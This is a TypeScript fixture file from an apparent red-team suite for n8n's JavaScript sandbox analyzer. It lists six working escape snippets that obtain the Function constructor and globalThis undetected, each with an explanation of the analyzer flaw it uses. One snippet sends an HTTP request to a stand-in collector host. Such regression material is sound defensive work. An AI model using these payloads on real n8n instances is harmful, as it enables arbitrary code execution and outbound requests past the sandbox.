// Round 7 of the code-purity red team: snippets that get hold of a capability in n8n 2.41's secure JS
// task runner (confirmed by ./n8n-sandbox.ts with its default options, runner flags and hardened host, on
// Node 24.21.0; they need nothing specific to Node 24) while analyzeJavaScript() reports nothing.
import type { RedTeamBypass, RedTeamFalsePositive } from './bypasses.js';

export const ROUND7: RedTeamBypass[] = [
  {
    "id": "accessor-launder/json-input-item-at",
    "cls": "accessor-method-result",
    "code": "const F = (() => 0)[items[0].json.key];\n$json.arr = [F];\nconst G = $input.item.json.arr.at(0);\n$json.arr2 = [G('return globalThis')];\nreturn [{ json: { g: $input.item.json.arr2.at(0)() } }];",
    "why": "callCapability() returns 'no capability' for any call `<accessor chain>.m(...)` rooted at an n8n accessor ($input, $execution, $node, ...) whose method name is not shadowed, before looking at what the callee or receiver hold. The code may write the data accessors themselves ($json.arr = [F] is a write to a plain global, key not a protocol key), and $input.item.json is the same object as $json: `$input.item.json.arr.at(0)` hands F (the Function constructor, from (() => 0)[items[0].json.key]) back as plain data, which is then called with a body; the compiled function is laundered the same way and called.",
  },
  {
    "id": "accessor-launder/input-item-helpers",
    "cls": "accessor-method-result",
    "code": "const F = (() => 0)[items[0].json.key];\n$json.fns = [F];\nconst G = $input.item.json.fns.at(0);\n$json.run = [G('return helpers.httpRequest({ url: \"https://collector.invalid/\" })')];\nawait $input.item.json.run.at(0)();\nreturn [{ json: { ok: 1 } }];",
    "why": "Same hole, with a payload: the laundered Function constructor compiles `return helpers.httpRequest(...)`, the compiled function is stored in $json.run and read back through `$input.item.json.run.at(0)()`, which the analysis takes for n8n's data: helpers.httpRequest is called.",
  },
  {
    "id": "accessor-launder/execution-at",
    "cls": "accessor-method-result",
    "code": "const F = (() => 0)[items[0].json.key];\n$execution.arr = [F];\nconst G = $execution.arr.at(0);\n$execution.arr2 = [G('return globalThis')];\nreturn [{ json: { g: $execution.arr2.at(0)() } }];",
    "why": "The accessor object itself is writable and not tracked: `$execution.arr = [F]` (a write to a global data name, plain), then `$execution.arr.at(0)` is an accessor-rooted method call, so its result (F) is plain data and may be called; no dependence on $json/$input identity.",
  },
  {
    "id": "accessor-launder/execution-each-item",
    "cls": "accessor-method-result",
    "code": "if ($json.key !== 'constructor') return { json: {} };\nconst F = (() => 0)[$json.key];\n$execution.fns = [F];\n$execution.run = [$execution.fns.at(0)('return globalThis')];\nreturn { json: { g: $execution.run.at(0)() } };",
    "why": "The same written for runOnceForEachItem (key from $json; it obtains in both modes, checked with the oracle default and mode: runOnceForEachItem): $execution.fns.at(0) is F as 'n8n data'; the compiled `return globalThis` is laundered through $execution.run.at(0) and called.",
  },
  {
    "id": "descriptor/out-of-line-value-search-then",
    "cls": "protocol-store-via-plain-container",
    "code": "const F = (() => 0)[items[0].json.key];\nconst d = {};\nd.value = F;\nconst G = 'arguments[0](globalThis)'.search(Object.create(null, { [Symbol.search]: d }));\nconst d2 = {};\nd2.value = G;\nreturn [{ json: { g: await Object.create(null, { then: d2 }) } }];",
    "why": "A variable bound to a fresh literal stays 'no capability' after a property of it is written (`const d = {}; d.value = F`; value is not a protocol key, so only the heap is tainted). Handed as a descriptor to Object.create (not replaced by n8n's prelude, not a reflection member, and its argument is plain), it defines F under Symbol.search: `'arguments[0](globalThis)'.search(h)` calls F(body) (search is NON_INVOKING '*'); the compiled function is installed under then the same way and awaited.",
  },
  {
    "id": "builder/fromEntries-pushed-pairs-search-then",
    "cls": "protocol-store-via-plain-container",
    "code": "const F = (() => 0)[items[0].json.key];\nconst pair = [];\npair.push(Symbol.search, F);\nconst G = 'arguments[0](globalThis)'.search(Object.fromEntries([pair]));\nconst pair2 = ['then'];\npair2.push(G);\nreturn [{ json: { g: await Object.fromEntries([pair2]) } }];",
    "why": "Object.fromEntries may not be handed an unknown value, but an array filled by push stays plain (`const pair = []; pair.push(Symbol.search, F)`; push is NON_INVOKING and only taints the heap): Object.fromEntries([pair]) builds { [Symbol.search]: F }. String.prototype.search calls F(receiver) and compiles it; a second pushed pair puts the compiled function under then, which await calls with resolve.",
  },
];

export const ROUND7_FALSE_POSITIVES: RedTeamFalsePositive[] = [];
